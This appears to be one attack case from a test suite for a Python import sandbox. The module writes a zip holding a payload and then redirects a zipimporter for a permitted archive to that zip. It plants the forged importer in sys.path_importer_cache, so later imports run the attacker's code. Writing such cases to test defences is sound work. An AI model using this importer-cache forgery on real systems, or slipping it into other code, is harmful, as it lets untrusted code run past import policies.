"""The importer of a granted archive is led to another archive."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "allow"

import sys
import zipfile
import zipimport

from . import payload


def attack():
    path = payload.DEPS + "/packed.zip"
    own = payload.ROOT + "/tmp/own.zip"
    with zipfile.ZipFile(own, "w") as archive:
        archive.writestr("packed.py", payload.SOURCE)
    importer = zipimport.zipimporter(path)
    importer.archive = own
    importer._get_files()
    sys.path_importer_cache[path] = importer
